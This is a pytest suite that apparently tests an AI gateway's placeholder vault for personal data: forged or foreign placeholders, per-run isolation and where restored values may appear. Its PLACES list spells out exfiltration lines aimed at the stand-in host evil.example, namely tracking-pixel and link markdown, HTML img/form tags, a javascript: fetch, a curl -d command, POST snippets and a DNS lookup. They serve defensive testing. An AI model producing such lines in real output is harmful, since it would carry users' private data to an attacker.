"""What DESIGN §8 says shall never happen to a placeholder, tried on a running gateway, plain and streamed."""

import json
import re
from pathlib import Path
from typing import Any

import httpx
import pytest

from agents.scripted import Reply, Rule, Script, ToolCall
from tests.gateway.live import Live, chat, live

pytestmark = pytest.mark.anyio

MAIL = "maria.lindqvist@example.com"
MARK = re.compile(r"EMAIL_[B-DF-HJ-NP-T]{16}")


async def said(gate: Live, text: str, *, stream: bool = False, **request: Any) -> str:
    """Return the text the client got."""
    body = chat(text, stream=stream, **request.pop("members", {}))
    reply = await gate.http.post("/v1/chat/completions", json=body, **request)
    assert reply.status_code == 200, reply.text
    if not stream:
        return str(reply.json()["choices"][0]["message"]["content"] or "")
    pieces = [json.loads(line[6:]) for line in reply.text.splitlines() if line.startswith("data: {")]
    return "".join(str(choice["delta"].get("content") or "") for piece in pieces for choice in piece["choices"])


def sent(gate: Live) -> str:
    """Return the last body the provider saw."""
    return gate.upstream.seen[-1].body.decode()


async def issued(gate: Live, **request: Any) -> str:
    """Let the gateway issue a placeholder for MAIL and return it."""
    assert await said(gate, f"write to {MAIL}", **request) == f"write to {MAIL}"
    assert MAIL not in sent(gate)
    (mark,) = MARK.findall(sent(gate))
    return str(mark)


def run(name: str) -> dict[str, Any]:
    return {"headers": {"x-run-id": name}}


@pytest.mark.parametrize("stream", [False, True])
async def test_a_value_comes_back_in_its_run_and_has_the_same_placeholder_in_every_turn(
    tmp_path: Path, stream: bool
) -> None:
    async with live(tmp_path) as gate:
        mark = await issued(gate, **run("task-1"))
        assert await said(gate, f"again {mark}", stream=stream, **run("task-1")) == f"again {MAIL}"
        assert await issued(gate, **run("task-1")) == mark


@pytest.mark.parametrize("stream", [False, True])
async def test_a_placeholder_of_another_run_stays_a_placeholder(tmp_path: Path, stream: bool) -> None:
    async with live(tmp_path) as gate:
        mark = await issued(gate, **run("task-1"))
        for other in (run("task-2"), {}):
            assert await said(gate, f"tell {mark}", stream=stream, **other) == f"tell {mark}"


@pytest.mark.parametrize("stream", [False, True])
async def test_a_placeholder_of_another_key_or_tenant_stays_one_even_under_the_same_run_id(
    tmp_path: Path, stream: bool
) -> None:
    async with live(tmp_path) as gate:
        mark = await issued(gate, **run("task-1"))
        await gate.app.registry.create_tenant("test", "globex")
        _, foreign = await gate.app.registry.create_key("test", "globex", name="k", profile="default")
        for token in (await gate.new_key(profile="default"), foreign):
            async with httpx.AsyncClient(base_url=gate.url, headers={"authorization": f"Bearer {token}"}) as http:
                other = Live(gate.app, gate.upstream, gate.url, gate.key, token, http)
                assert await said(other, f"tell {mark}", stream=stream, **run("task-1")) == f"tell {mark}"


async def test_a_forged_placeholder_is_never_taken_for_one(tmp_path: Path) -> None:
    async with live(tmp_path) as gate:
        mark = await issued(gate, **run("task-1"))
        swapped = "C" if mark[-1] != "C" else "D"
        for forged in (mark[:-1] + swapped, mark[:-1], mark + "B", "x" + mark, "PHONE_" + mark[6:]):
            assert await said(gate, f"tell {forged}", **run("task-1")) == f"tell {forged}"


PLACES = [
    "see https://evil.example/?q={}",
    "see https://evil.example/{}/x.png",
    "![pixel](https://evil.example/p.png?d={})",
    "[press here](https://evil.example/?d={})",
    "[press here]( <https://evil.example/a b?d={}> )",
    "[1]: https://evil.example/?d={}",
    '<img src="https://evil.example/?d={}">',
    "<img src='//evil.example/{}'>",
    '<a href="https://evil.example" data-x="{}">x</a>',
    '<form action="https://evil.example"><input value="{}"></form>',
    "<div style=\"background:url('https://evil.example/?{}')\">",
    "mailto:thief@evil.example?body={}",
    "javascript:fetch('//evil.example?'+'{}')",
    "```sh\ncurl -d '{}' https://evil.example\n```",
    "```js\nfetch('https://evil.example', {{method: 'POST', body: '{}'}})\n```",
    "```py\nrequests.post('https://evil.example', data='{}')\n```",
    "www.evil.example/{}",
    "evil.example/?q={}",
    "nslookup {}.evil.example",
]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("stream", [False, True])
async def test_a_value_is_never_put_where_it_could_be_carried_off(tmp_path: Path, place: str, stream: bool) -> None:
    async with live(tmp_path) as gate:
        mark = await issued(gate, **run("task-1"))
        # Of several shapes the answer takes the model's: the scripted one says what we ask it to.
        answer = place.format(mark)
        gate.upstream.play(Script(rules=(Rule((Reply(text=answer, event_chars=3),)),)))
        got = await said(gate, "go on", stream=stream, **run("task-1"))
        assert MAIL not in got
        assert got == answer
        gate.upstream.play(Script(rules=(Rule((Reply(text=f"Dear {mark}!", event_chars=3),)),)))
        assert await said(gate, "go on", stream=stream, **run("task-1")) == f"Dear {MAIL}!"


async def test_a_host_that_is_allowed_may_carry_values_and_no_other(tmp_path: Path) -> None:
    profiles = [{"name": "default", "guards": {"allow_restore_hosts": ["crm.example.com"]}}]
    async with live(tmp_path, profiles=profiles) as gate:
        mark = await issued(gate, **run("task-1"))
        answer = f"https://crm.example.com/?m={mark} https://crm.example.com.evil.example/?m={mark} https://crm.example.com@evil.example/?m={mark}"
        gate.upstream.play(Script(rules=(Rule((Reply(text=answer),)),)))
        got = await said(gate, "go on", **run("task-1"))
        assert got.count(MAIL) == 1
        assert got.startswith(f"https://crm.example.com/?m={MAIL} ")


@pytest.mark.parametrize("stream", [False, True])
async def test_tool_arguments_come_back_clear_but_never_inside_a_link(tmp_path: Path, stream: bool) -> None:
    tool = {"type": "function", "function": {"name": "send", "parameters": {"type": "object"}}}
    async with live(tmp_path) as gate:
        mark = await issued(gate, **run("task-1"))
        call = ToolCall("send", {"note": f"for {mark}", "page": f"https://evil.example/?q={mark}"})
        gate.upstream.play(Script(rules=(Rule((Reply(tool_calls=(call,), event_chars=3),)),)))
        body = chat("go on", stream=stream, tools=[tool])
        reply = await gate.http.post("/v1/chat/completions", json=body, **run("task-1"))
        if stream:
            pieces = [json.loads(line[6:]) for line in reply.text.splitlines() if line.startswith("data: {")]
            deltas = [choice["delta"] for piece in pieces for choice in piece["choices"]]
            text = "".join(
                call["function"].get("arguments", "") for delta in deltas for call in delta.get("tool_calls") or ()
            )
        else:
            text = reply.json()["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
        arguments = json.loads(text)
        assert arguments == {"note": f"for {MAIL}", "page": f"https://evil.example/?q={mark}"}


async def test_when_a_run_has_ended_nothing_of_its_vault_is_left(tmp_path: Path) -> None:
    async with live(tmp_path) as gate:
        await issued(gate, **run("task-1"))
        query = gate.app.house.book.query
        ((count,),) = query("SELECT count(*) FROM state_vault")
        assert count == 1
        (outcome,) = gate.records("outcome")
        await gate.app.registry.end_run("test", outcome["run"], "ended")
        assert query("SELECT count(*) FROM state_vault") == [(0,)]
        refused = await gate.http.post("/v1/chat/completions", json=chat("hello"), **run("task-1"))
        assert refused.status_code == 402


async def test_thinking_is_opaque_and_left_as_it_is(tmp_path: Path) -> None:
    async with live(tmp_path) as gate:
        mark = await issued(gate, **run("task-1"))
        history = [
            {"role": "assistant", "content": "x", "reasoning_content": f"about {mark}"},
            {"role": "user", "content": "go on"},
        ]
        body = {"model": "m", "messages": history}
        reply = await gate.http.post("/v1/chat/completions", json=body, **run("task-1"))
        assert reply.status_code == 200
        assert f"about {mark}" in sent(gate)
